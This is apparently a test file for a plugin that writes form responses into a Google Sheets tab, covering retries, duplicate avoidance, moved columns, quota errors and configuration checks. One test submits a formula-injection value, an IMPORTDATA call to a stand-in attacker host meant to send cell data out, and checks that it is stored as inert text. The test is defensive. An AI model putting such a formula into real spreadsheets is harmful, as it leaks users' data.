/** Rows as they stand in the spreadsheet: the plugin in its sandbox, the double of Google on a real port. */
import { expect, test } from 'vitest'
import { conformance, testPlugin } from 'manifold/plugin/testing'
import type { TestPluginOptions } from 'manifold/plugin/testing'
import { startFakeSheets } from './fake/server.ts'
import type { FakeRequest, FakeSheets, FakeSheetsOptions, Fault } from './fake/server.ts'

type Settings = { readonly [name: string]: unknown }

const field = (key: string, label: string, type = 'text') => ({ key, label, type })
const FIELDS = [
  field('name', 'Your name'),
  field('budget', 'Budget', 'number'),
  field('news', 'News?', 'boolean'),
  field('due', 'Due', 'date'),
  field('note', 'Note', 'long_text'),
]
const forms = { contact: { name: 'Contact', fields: FIELDS } } as NonNullable<TestPluginOptions['forms']>
const FORM = { id: 'contact', name: 'Contact', version: 1, fields: FIELDS }
const HEADER = ['Event ID', 'Submitted at', 'Your name', 'Budget', 'News?', 'Due', 'Note']
const NOW = new Date().toISOString()
/** Whatever was sent by then is over. */
const LONG_AGO = new Date(Date.parse(NOW) - 3_600_000).toISOString()

/** The plugin before the double; what it sends goes over real sockets. */
async function open(google: FakeSheets, settings: Settings = {}, more: Partial<TestPluginOptions> = {}) {
  const { private_key: key, ...credentials } = google.keyFile
  const config = {
    credentials: { ...credentials, private_key: key },
    spreadsheet: google.spreadsheet.id,
    tab: 'Answers',
    apiUrl: google.url,
    writesPerMinute: 6_000,
    ...settings,
  }
  const plugin = await testPlugin({ dir: import.meta.dirname, config, forms, now: NOW, ...more })
  plugin.http.on('* *', async ({ method, url, headers, body }) => {
    const { 'content-length': _length, host: _host, connection: _connection, ...rest } = headers
    try {
      const answer = await fetch(url, { method, headers: rest, ...(method === 'GET' ? {} : { body }) })
      return { status: answer.status, headers: Object.fromEntries(answer.headers), body: await answer.text() }
    } catch {
      return { error: 'http_reset' as const }
    }
  })
  return plugin
}

const idOf = (n: number): string => `evt_${String(n).padStart(32, '0')}`

const event = (n: number, data: object = { name: `n${n}` }, form: object = FORM) =>
  ({
    id: idOf(n),
    type: 'response.submitted',
    data,
    form,
    response: { id: `rsp_${n}`, status: 'completed', startedAt: null, submittedAt: '2026-07-01T10:00:00.000Z' },
  }) as never

const ids = (google: FakeSheets) =>
  google.spreadsheet
    .tab('Answers')
    .records()
    .map((row) => row['Event ID'])
const names = (google: FakeSheets, header = 'Your name') =>
  google.spreadsheet
    .tab('Answers')
    .records()
    .map((row) => row[header])

async function scene(settings: Settings = {}, options: FakeSheetsOptions = {}, more: Partial<TestPluginOptions> = {}) {
  const stack = new AsyncDisposableStack()
  const google = stack.use(await startFakeSheets(options))
  const plugin = stack.use(await open(google, settings, more))
  const run = async (...items: readonly Item[]) =>
    plugin.run(
      'append',
      items.map(({ n, repeat = false, sentBefore = LONG_AGO, data }) => ({
        event: event(n, data),
        delivery: { repeat, sentBefore },
      })),
    )
  return { google, plugin, run, [Symbol.asyncDispose]: () => stack.disposeAsync() }
}

interface Item {
  readonly n: number
  readonly repeat?: boolean
  readonly sentBefore?: string
  readonly data?: object
}

const many = (count: number, first = 0): readonly Item[] => Array.from({ length: count }, (_, n) => ({ n: first + n }))
const isWrite = ({ kind }: FakeRequest): boolean => kind === 'write'
const isRead = ({ kind }: FakeRequest): boolean => kind === 'read'

test('responses become one call: header by label, cells by type, no formula, no secret in any record', async () => {
  await using s = await scene()
  const { google, plugin } = s
  await plugin.submit('contact', {
    name: '=IMPORTDATA("https://evil.example/?"&B2)',
    budget: 12.5,
    news: true,
    due: '2026-02-01',
  })
  await plugin.submit('contact', { name: '+1', note: 'line one\nline two' })
  await plugin.advance('2s')
  expect((await plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered', 'delivered'])
  const tab = google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(HEADER)
  const [first, second] = tab.records()
  expect(first).toMatchObject({
    'Your name': '=IMPORTDATA("https://evil.example/?"&B2)',
    Budget: 12.5,
    'News?': true,
    Due: 46_054,
  })
  expect(second).toMatchObject({ 'Your name': '+1', Budget: null, Note: 'line one\nline two' })
  expect(first?.['Event ID']).toEqual(expect.stringMatching(/^evt_/))
  expect(Number(first?.['Submitted at'])).toBeGreaterThan(46_000)
  expect([...tab.formats].map(([column, { type }]) => [column, type])).toEqual([
    [1, 'DATE_TIME'],
    [5, 'DATE'],
  ])
  expect([google.count('token'), google.count('read'), google.count('write')]).toEqual([1, 1, 1])
  const left = JSON.stringify([plugin.exchanges(), plugin.logs(), plugin.runs, await plugin.kv.keys()])
  expect(google.tokens.all()).toHaveLength(1)
  for (const secret of [google.tokens.all()[0]!, google.keyFile['private_key']!.split('\n')[3]!]) {
    expect(left).not.toContain(secret)
  }
})

test('the happy path reads nothing but the header, a moment before each write', async () => {
  await using s = await scene()
  for (let n = 0; n < 5; n += 1)
    expect(await s.run({ n: 2 * n }, { n: 2 * n + 1 })).toMatchObject([{ outcome: 'delivered' }, {}])
  expect(names(s.google)).toEqual(Array.from({ length: 10 }, (_, n) => `n${n}`))
  expect([s.google.count('token'), s.google.count('read'), s.google.count('write')]).toEqual([1, 5, 5])
})

test('an answer that was lost: the ids are read once, what is there is left out, the rest is written', async () => {
  await using s = await scene({ settleS: 5 }, {}, { retryMs: [10, 10] })
  const { google, plugin } = s
  let lose = true
  google.fault = (request) => (isWrite(request) && lose ? { kind: 'lost' } : null)
  await plugin.submit('contact', { name: 'Ada' })
  await plugin.advance('2s')
  expect(names(google)).toEqual(['Ada'])
  lose = false
  // Meanwhile people sort, and insert rows and a column.
  const tab = google.spreadsheet.tab('Answers')
  tab.insertRows(1, 1)
  tab.set(1, 0, 'a note of a person')
  tab.insertColumn(2)
  await plugin.submit('contact', { name: 'Bob' })
  await plugin.advance('10s')
  expect((await plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered', 'delivered'])
  expect(names(google)).toEqual([null, 'Ada', 'Bob'])
})

test.each([
  ['before', false],
  ['lost', true],
  ['cut', true],
] as const)('%s: repeated without a double', async (kind, isThere) => {
  await using s = await scene({ settleS: 2 })
  const { google, plugin } = s
  const states = async () => (await plugin.deliveries()).map(({ state }) => state)
  await plugin.submit('contact', { name: 'n0' })
  await plugin.advance('2s')
  google.fault = (request) => (isWrite(request) ? { kind } : null)
  for (const name of ['n1', 'n2']) await plugin.submit('contact', { name })
  await plugin.advance('2s')
  expect(await states()).toEqual(['delivered', 'retrying', 'retrying'])
  expect(names(google)).toEqual(isThere ? ['n0', 'n1', 'n2'] : ['n0'])
  google.fault = () => null
  google.forget()
  await plugin.submit('contact', { name: 'n3' })
  await plugin.advance('5s')
  expect(await states()).toEqual(Array(4).fill('delivered'))
  expect([...names(google)].toSorted()).toEqual(['n0', 'n1', 'n2', 'n3'])
  expect(google.requests.filter(({ path }) => /!A2:A/.test(path))).toHaveLength(1)
})

test('columns that people move meanwhile: rows end where they belong', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0, data: { name: 'n0', budget: 0 } })
  tab.insertColumn(1)
  tab.set(0, 1, 'Remarks')
  expect(await s.run({ n: 1, data: { name: 'n1', budget: 1 } })).toMatchObject([{ outcome: 'delivered' }])
  tab.insertColumn(0)
  expect(await s.run({ n: 2, data: { name: 'n2', budget: 2 } })).toMatchObject([{ outcome: 'delivered' }])
  tab.deleteColumn(2)
  expect(await s.run({ n: 3, data: { name: 'n3', budget: 3 } })).toMatchObject([{ outcome: 'delivered' }])
  // The table is as wide as before.
  tab.moveColumn(2, 4)
  expect(await s.run({ n: 4, data: { name: 'n4', budget: 4 } })).toMatchObject([{ outcome: 'delivered' }])
  const expected = [0, 1, 2, 3, 4].map((n) => [`n${n}`, n])
  expect(tab.records().map((row) => [row['Your name'], row['Budget']])).toEqual(expected)
  expect(ids(s.google).every((id) => typeof id === 'string' && id.startsWith('evt_'))).toBe(true)
})

test('rows of people below a gap and text beside the table change nothing', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  tab.set(20, 3, 'a sum that somebody wrote below')
  tab.set(1, 12, 'beside')
  await s.run({ n: 1 }, { n: 2 })
  expect(names(s.google).filter((name) => name !== null)).toEqual(['n0', 'n1', 'n2'])
  expect([tab.cell(20, 3), tab.cell(1, 12)]).toEqual(['a sum that somebody wrote below', 'beside'])
})

test('a new field is a new column at the right; two fields with one label share none', async () => {
  await using s = await scene({}, { tabs: [{ title: 'Answers', columnCount: 7 }] })
  await s.run({ n: 0 })
  const fields = [field('second', 'Your name'), ...FIELDS, field('city', 'City')]
  const form = { ...FORM, version: 2, fields }
  await s.plugin.run('append', [{ event: event(1, { name: 'n1', second: 'x', city: 'Bonn' }, form) }])
  expect(s.google.spreadsheet.tab('Answers').rows[0]).toEqual([...HEADER, 'Your name (name)', 'City'])
  expect(s.google.spreadsheet.tab('Answers').records()[1]).toMatchObject({
    'Your name': 'x',
    'Your name (name)': 'n1',
    City: 'Bonn',
  })
})

test.each([
  ['recreate', { outcome: 'delivered' }, [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3), 'Your name'], 'n1'],
  ['skip', { outcome: 'delivered' }, [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3)], undefined],
  [
    'stop',
    { outcome: 'dead', code: 'header_missing', disable: true },
    [...HEADER.slice(0, 2), 'Who', ...HEADER.slice(3)],
    undefined,
  ],
] as const)('a header that was renamed: %s', async (missingHeader, outcome, header, name) => {
  await using s = await scene({ missingHeader })
  await s.run({ n: 0 })
  const tab = s.google.spreadsheet.tab('Answers')
  tab.set(0, 2, 'Who')
  const [got] = await s.run({ n: 1 })
  expect(got).toMatchObject(outcome)
  expect(tab.rows[0]).toEqual(header)
  expect(tab.records()[1]?.['Your name']).toBe(name)
  if (missingHeader !== 'skip') return
  s.google.forget()
  await s.run({ n: 2 })
  expect([s.google.count('read'), s.google.count('write')]).toEqual([1, 1])
})

test('columns of the admin: templates, types, the time zone, and the guard for CSV', async () => {
  const columns = [
    { header: 'Who', value: '{{data.name}} of {{form.name}}' },
    { header: 'Money', value: '{{data.budget}}', type: 'number' },
    { header: 'When', value: '{{response.submitted_at}}', type: 'datetime' },
    { header: 'Odd', value: '{{data.note}}', type: 'number' },
    { header: 'Raw', value: '{{data.note}}' },
  ]
  await using s = await scene({ columns, csvGuard: true, timeZone: 'Asia/Tokyo', idHeader: 'Id' })
  await s.run({ n: 0, data: { name: '<b>&', budget: 7, note: '=1+1' } })
  const tab = s.google.spreadsheet.tab('Answers')
  expect(tab.rows[0]).toEqual(['Id', 'Who', 'Money', 'When', 'Odd', 'Raw'])
  // 1 July 2026, 19:00 in Tokyo.
  expect(tab.rows[1]?.slice(1)).toEqual(['<b>& of Contact', 7, 46_204 + 19 / 24, "'=1+1", "'=1+1"])
})

test('a token that ends is replaced within the run; a key that was deleted stops the installation and loses nothing', async () => {
  await using s = await scene()
  await s.run({ n: 0 })
  s.google.tokens.expireAll()
  expect(await s.run({ n: 1 })).toMatchObject([{ outcome: 'delivered' }])
  expect(names(s.google)).toEqual(['n0', 'n1'])
  s.google.tokens.revoke(s.google.keyFile['client_email']!)
  await s.plugin.submit('contact', { name: 'later' })
  await s.plugin.advance('2s')
  expect((await s.plugin.deliveries()).map(({ state }) => state)).not.toContain('dead')
  expect(s.plugin.state()).toBe('disabled')
})

test('a spreadsheet that is not shared: its address is named, and the delivery waits', async () => {
  await using s = await scene()
  s.google.editors.clear()
  const [got] = await s.run({ n: 0 })
  expect(got).toMatchObject({ message: expect.stringContaining(`not shared with ${s.google.keyFile['client_email']}`) })
  expect(got).toMatchObject({ message: expect.stringContaining('The caller does not have permission') })
})

test.each([
  [{ tab: 'Nothing' }, 'tab_missing', 'Unable to parse range'],
  [
    { spreadsheet: 'https://docs.google.com/spreadsheets/d/1thereIsNoSuchThing/edit#gid=0' },
    'not_found',
    'Requested entity was not found.',
  ],
  [{ timeZone: 'Mars/Base' }, 'config_invalid', 'Mars/Base'],
] as const)('settings that lead nowhere: %j', async (settings, code, words) => {
  await using s = await scene(settings)
  expect(await s.run({ n: 0 })).toMatchObject([{ outcome: 'dead', code, message: expect.stringContaining(words) }])
})

test('a quota that is used up, in the words of Google', async () => {
  await using s = await scene({}, { quota: { reads: 60, writes: 1 } })
  await s.run({ n: 0 })
  const told = expect.stringContaining('Quota exceeded')
  expect(await s.run({ n: 1 })).toMatchObject([{ outcome: 'retry', code: 'http_429', message: told }])
})

test.each([
  ['a quota that is used up', isWrite, { kind: 'status', status: 429 }],
  ['the same, as older parts say it', isWrite, { kind: 'status', status: 403, message: 'rateLimitExceeded' }],
  ['a look at the header that got no answer', isRead, { kind: 'lost' }],
  ['a look at the header that Google failed at', isRead, { kind: 'status', status: 503 }],
] as const)('%s: no reason to look for rows the next time', async (_, concerns, fault) => {
  await using s = await scene({}, {}, { retryMs: [10, 10, 10] })
  s.google.fault = (request): Fault | null => (concerns(request) ? fault : null)
  await s.plugin.submit('contact', { name: 'Ada' })
  await s.plugin.advance('2s')
  expect((await s.plugin.deliveries()).map(({ state }) => state)).toEqual(['retrying'])
  s.google.fault = () => null
  await s.plugin.advance('2s')
  expect((await s.plugin.deliveries()).map(({ state }) => state)).toEqual(['delivered'])
  expect(s.google.requests.filter(({ path }) => path.includes('/values/'))).toEqual([])
})

test.each([
  ['a full spreadsheet', 'spreadsheet_full', (google: FakeSheets) => void (google.spreadsheet.cellsMax = 70)],
  [
    'a protected range',
    'protected',
    (google: FakeSheets): void => {
      const message = 'You are trying to edit a protected cell or object.'
      google.fault = (request): Fault | null => (isWrite(request) ? { kind: 'status', status: 400, message } : null)
    },
  ],
] as const)(
  '%s: one dead letter in the words of Google stops the installation, and the others wait',
  async (...row) => {
    const [, code, change] = row
    await using s = await scene({}, { tabs: [{ title: 'Answers', rowCount: 2 }] })
    await s.run({ n: 0 })
    change(s.google)
    const [first, ...rest] = await s.run(...many(9, 10))
    expect(first).toMatchObject({ outcome: 'dead', code, disable: true })
    expect(rest).toHaveLength(8)
    for (const each of rest) expect(each).toMatchObject({ outcome: 'retry', code, message: first?.message })
    expect(names(s.google)).toEqual(['n0'])
  },
)

test('what Google applies after nobody waits for it any more is looked for then, and not before', async () => {
  await using s = await scene({}, {}, { retryMs: [10, 10, 10] })
  const { google, plugin } = s
  const states = async () => (await plugin.deliveries()).map(({ state }) => state)
  await plugin.submit('contact', { name: 'n0' })
  await plugin.advance('2s')
  google.fault = (request) => (isWrite(request) ? { kind: 'late' } : null)
  await plugin.submit('contact', { name: 'late' })
  await plugin.advance('2s')
  google.fault = () => null
  google.forget()
  await plugin.advance('2m')
  expect([await states(), names(google), google.count('write')]).toEqual([['delivered', 'retrying'], ['n0'], 0])
  google.land()
  await plugin.advance('2m')
  expect([await states(), names(google)]).toEqual([
    ['delivered', 'delivered'],
    ['n0', 'late'],
  ])
})

test('after a kill nobody knows what was sent: rows are looked for when Google is through with that, then written', async () => {
  await using s = await scene({ settleS: 60 })
  const before = new Date(Date.parse(NOW) - 20_000).toISOString()
  const after = new Date(Date.parse(NOW) - 60_000).toISOString()
  const outcomes = await s.run({ n: 0, repeat: true, sentBefore: before }, { n: 1 })
  expect(outcomes).toMatchObject([{ outcome: 'retry', code: 'unsettled', afterMs: 40_000 }, { outcome: 'delivered' }])
  const tab = s.google.spreadsheet.tab('Answers')
  tab.set(2, 0, idOf(2))
  const later = await s.run({ n: 2, repeat: true, sentBefore: after }, { n: 3, repeat: true, sentBefore: after })
  expect(later.map(({ outcome }) => outcome)).toEqual(['delivered', 'delivered'])
  expect(ids(s.google)).toEqual([1, 2, 3].map(idOf))
})

test('columns moved in the very moment of the write: it is said, and nothing of anybody is written over', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0, data: { name: 'n0', budget: 0 } })
  s.google.fault = (request) => {
    if (!isWrite(request)) return null
    tab.moveColumn(2, 4)
    tab.set(2, 0, 'of a person')
    return null
  }
  const [got] = await s.run({ n: 1, data: { name: 'n1', budget: 1 } })
  expect(got).toMatchObject({ outcome: 'dead', code: 'columns_moved', message: expect.stringContaining('Delete it') })
  expect(tab.records()[0]).toMatchObject({ 'Your name': 'n0', Budget: 0 })
  expect(tab.rows[2]?.[0]).toBe('of a person')
  s.google.fault = () => null
  expect(await s.run({ n: 2, data: { name: 'n2', budget: 2 } })).toMatchObject([{ outcome: 'delivered' }])
  expect(tab.records().at(-1)).toMatchObject({ 'Your name': 'n2', Budget: 2 })
})

test.each(['recreate', 'skip'] as const)(
  'renamed and moved: answers that were written stay (%s)',
  async (missingHeader) => {
    await using s = await scene({ missingHeader })
    const tab = s.google.spreadsheet.tab('Answers')
    await s.run({ n: 0, data: { name: 'n0', budget: 0 } })
    let isFirst = true
    s.google.fault = (request) => {
      if (!isWrite(request) || !isFirst) return null
      isFirst = false
      tab.set(0, 2, 'Who')
      tab.insertColumn(7)
      tab.set(0, 7, 'Remarks')
      return null
    }
    expect(await s.run({ n: 1, data: { name: 'n1', budget: 1 } })).toMatchObject([{ outcome: 'delivered' }])
    await s.run({ n: 2, data: { name: 'n2', budget: 2 } })
    expect(names(s.google, 'Who')).toEqual(['n0', 'n1', null])
    const name = missingHeader === 'skip' ? undefined : 'n2'
    expect(tab.records().map((row) => row['Budget'])).toEqual([0, 1, 2])
    expect(tab.records().at(-1)?.['Your name']).toBe(name)
  },
)

test('a new column and a new row beside what somebody writes there in that moment', async () => {
  await using s = await scene({}, { tabs: [{ title: 'Answers', columnCount: 8 }] })
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  s.google.fault = (request) => {
    if (!isWrite(request)) return null
    tab.set(0, 7, 'Remarks')
    tab.set(1, 7, 'remarked')
    tab.set(2, 0, 'of a person')
    return null
  }
  const form = { ...FORM, version: 2, fields: [...FIELDS, field('city', 'City')] }
  await s.plugin.run('append', [{ event: event(1, { name: 'n1', city: 'Bonn' }, form) }])
  expect(tab.rows[0]).toEqual([...HEADER, 'City', 'Remarks'])
  expect(tab.records()[0]).toMatchObject({ 'Your name': 'n0', Remarks: 'remarked' })
  expect(tab.records()[1]).toMatchObject({ 'Event ID': 'of a person', City: null })
  expect(tab.records()[2]).toMatchObject({ 'Your name': 'n1', City: 'Bonn' })
})

test('two installations that begin on one tab in the same moment write over nothing of each other, and find their rows', async () => {
  await using s = await scene()
  const { google } = s
  const columns = [{ header: 'Amount', value: '{{data.budget}}', type: 'number' }]
  await using other = await open(google, { columns })
  const tab = google.spreadsheet.tab('Answers')
  const ran: Promise<unknown>[] = []
  let isFirst = true
  google.fault = (request): Fault | null => {
    if (!isWrite(request) || !isFirst) return null
    isFirst = false
    // The other one has seen the same empty tab, and is quicker by this much.
    ran.push(other.run('append', [{ event: event(7, { budget: 7 }) }]))
    return { kind: 'until', over: ran[0]! }
  }
  await s.run({ n: 0 })
  await Promise.all(ran)
  expect(tab.rows[0]).toEqual([...HEADER, 'Event ID', 'Amount'])
  expect(tab.rows.slice(1).map((row) => row.filter((cell) => cell !== null).at(-1))).toEqual([7, 'n0'])
  const again = { repeat: true, sentBefore: LONG_AGO }
  await using later = await open(google, { columns })
  await later.run('append', [
    { event: event(7, { budget: 7 }), delivery: again },
    { event: event(8, { budget: 8 }), delivery: again },
  ])
  expect(tab.filledRows(1).map((row) => row[HEADER.length + 1] ?? null)).toEqual([7, null, 8])
  expect(tab.rows.flat().filter((cell) => /^evt_/.test(String(cell)))).toEqual([7, 0, 8].map(idOf))
})

test('a tab of half a million rows: the look goes on over several runs, and what is not there is written', async () => {
  await using s = await scene({}, { tabs: [{ title: 'Answers', rowCount: 500_000, columnCount: 1 }], quota: null })
  const { google } = s
  const tab = google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  // Somebody sorted them to the end.
  for (const [at, n] of [10, 11, 12].entries()) tab.set(499_990 + at, 0, idOf(n))
  const look = async (...of: readonly number[]) => s.run(...of.map((n) => ({ n, repeat: true })))
  expect(await look(10, 20)).toMatchObject(Array(2).fill({ outcome: 'retry', code: 'looking' }))
  expect(await look(11, 21)).toMatchObject([{ outcome: 'delivered' }, { outcome: 'delivered' }])
  google.forget()
  expect(await look(12)).toMatchObject([{ outcome: 'delivered' }])
  expect([google.count('read'), google.count('write')]).toEqual([1, 0])
  expect(ids(google).filter((id) => id !== null && id !== undefined)).toEqual([0, 10, 11, 12, 21].map(idOf))
})

test.each([
  ['names it', (at: number) => `Invalid requests[${at}].appendCells: this cannot be`],
  ['does not say which', () => 'Invalid data: this cannot be'],
] as const)('one row that Google does not take, and it %s: it alone is a dead letter', async (_, words) => {
  await using s = await scene()
  const isBad = (request: object): boolean => JSON.stringify(request).includes('"n13"')
  s.google.fault = ({ kind, body }): Fault | null => {
    const at = kind === 'write' ? (JSON.parse(body) as { requests: object[] }).requests.findIndex(isBad) : -1
    return at < 0 ? null : { kind: 'status', status: 400, message: words(at) }
  }
  const outcomes = await s.run(...many(30))
  const dead = outcomes.map(({ outcome }, n) => (outcome === 'dead' ? n : -1)).filter((n) => n >= 0)
  expect(dead).toEqual([13])
  expect(outcomes[13]).toMatchObject({ code: 'rejected', message: expect.stringContaining('this cannot be') })
  expect(outcomes.filter(({ outcome }) => outcome === 'delivered')).toHaveLength(29)
  expect(new Set(names(s.google))).toEqual(new Set(many(30).flatMap(({ n }) => (n === 13 ? [] : [`n${n}`]))))
})

test('rows that were not sent since one before them failed wait, and are no repeats', async () => {
  await using s = await scene()
  await s.run({ n: 100 })
  const long = Object.fromEntries(FIELDS.map(({ key }) => [key, 'x'.repeat(49_000)]))
  let writes = 0
  s.google.fault = (request) => (isWrite(request) && (writes += 1) === 2 ? { kind: 'lost' } : null)
  const outcomes = await s.run(...Array.from({ length: 8 }, (_, n) => ({ n, data: long })))
  expect(outcomes.map(({ outcome }) => outcome)).toEqual([...Array(3).fill('delivered'), ...Array(5).fill('retry')])
  expect(outcomes.map(({ afterMs }) => afterMs)).toEqual([null, null, null, ...Array(3).fill(190_000), null, null])
})

test('a tab that people made narrow: columns come back, and no row is lost', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  while (tab.columnCount > 3) tab.deleteColumn(3)
  expect(await s.run({ n: 1, data: { name: 'n1', budget: 1 } })).toMatchObject([{ outcome: 'delivered' }])
  expect(tab.rows[0]).toEqual([...HEADER.slice(0, 3), ...HEADER.slice(3)])
  expect(tab.records().at(-1)).toMatchObject({ 'Your name': 'n1', Budget: 1 })
})

test('a repeat whose column of ids is gone is a dead letter, not perhaps a second row', async () => {
  await using s = await scene()
  const tab = s.google.spreadsheet.tab('Answers')
  await s.run({ n: 0 })
  tab.set(2, 0, idOf(1))
  tab.set(3, 0, idOf(2))
  tab.set(0, 0, 'Number')
  expect(await s.run({ n: 1, repeat: true })).toMatchObject([{ outcome: 'dead', code: 'id_header_missing' }])
  tab.set(0, 0, 'Event ID')
  expect(await s.run({ n: 2, repeat: true })).toMatchObject([{ outcome: 'delivered' }])
  expect(ids(s.google)).toEqual([0, 1, 2].map(idOf))
})

test('templates see what those of the other connectors see', async () => {
  const columns = [
    { header: 'Same', value: '{{& data.budget}}', type: 'number' },
    { header: 'All', value: '{{#answers}}{{label}}: {{value}}; {{/answers}}' },
    { header: 'From', value: '{{meta.source}}' },
  ]
  await using s = await scene({ columns })
  const asked = { ...(event(0, { budget: 7, name: 'Ada' }) as object), meta: { source: 'mail' } } as never
  await s.plugin.run('append', [{ event: asked }])
  expect(s.google.spreadsheet.tab('Answers').rows[1]?.slice(1)).toEqual([7, 'Your name: Ada; Budget: 7; ', 'mail'])
})

test('more than a request can hold goes in several, and a row that none can hold is a dead letter', async () => {
  await using s = await scene()
  const long = 'x'.repeat(49_000)
  const columns = Object.fromEntries(FIELDS.map(({ key }) => [key, long]))
  const outcomes = await s.run(...Array.from({ length: 8 }, (_, n) => ({ n, data: columns })))
  expect(outcomes.map(({ outcome }) => outcome)).toEqual(Array(8).fill('delivered'))
  expect(ids(s.google)).toHaveLength(8)
  expect(s.google.count('write')).toBe(3)
})

interface CheckCase {
  readonly what: string
  readonly settings?: Settings
  readonly change?: (google: FakeSheets) => unknown
  /** Level, place and some words of each finding. */
  readonly found: readonly (readonly [level: string, at: string | undefined, words: string])[]
}

const CHECKS: readonly CheckCase[] = [
  { what: 'all is well', found: [] },
  {
    what: 'not shared',
    change: ({ editors }) => editors.clear(),
    found: [['error', '/credentials', 'not shared with']],
  },
  {
    what: 'may only look',
    change: ({ editors, readers, keyFile }) => {
      readers.add(keyFile['client_email']!)
      editors.clear()
    },
    found: [['error', '/credentials', 'as an editor']],
  },
  {
    what: 'the key was deleted',
    change: ({ tokens, keyFile }) => tokens.revoke(keyFile['client_email']!),
    found: [['error', '/credentials', 'account not found']],
  },
  { what: 'no such tab', settings: { tab: 'Nothing' }, found: [['error', '/tab', 'There is no tab "Nothing"']] },
  {
    what: 'no such spreadsheet',
    settings: { spreadsheet: '1thereIsNoSuchThing' },
    found: [['error', '/spreadsheet', 'Requested entity was not found.']],
  },
  {
    what: 'a zone that is none, before the first row',
    settings: { timeZone: 'Mars/Base' },
    found: [
      ['error', '/timeZone', 'Mars/Base'],
      ['info', undefined, 'will make the columns "Event ID"'],
    ],
  },
  {
    what: 'Google is down',
    change: (google) => (google.fault = ({ kind }) => (kind === 'token' ? null : { kind: 'status', status: 503 })),
    found: [['warning', undefined, '503']],
  },
  {
    what: 'a column that is gone',
    settings: { missingHeader: 'stop' },
    change: ({ spreadsheet }) => spreadsheet.tab('Answers').set(0, 2, 'Who'),
    found: [['error', '/missingHeader', '"Your name"']],
  },
]

test.each(CHECKS)('check: $what', async ({ settings = {}, change = () => {}, found }) => {
  await using s = await scene(settings)
  await s.run({ n: 0 })
  change(s.google)
  const before = JSON.stringify(s.google.spreadsheet.tabs)
  const findings = await s.plugin.check()
  expect(findings.map(({ level }) => level)).toEqual(found.map(([level]) => level))
  for (const [index, [level, at, words]] of found.entries()) {
    expect(findings[index]).toMatchObject({ level, message: expect.stringContaining(words) })
    expect(findings[index]?.at ?? undefined).toBe(at)
  }
  expect(JSON.stringify(s.google.spreadsheet.tabs)).toBe(before)
})

test('conforms', async () => {
  await conformance(import.meta.dirname)
})
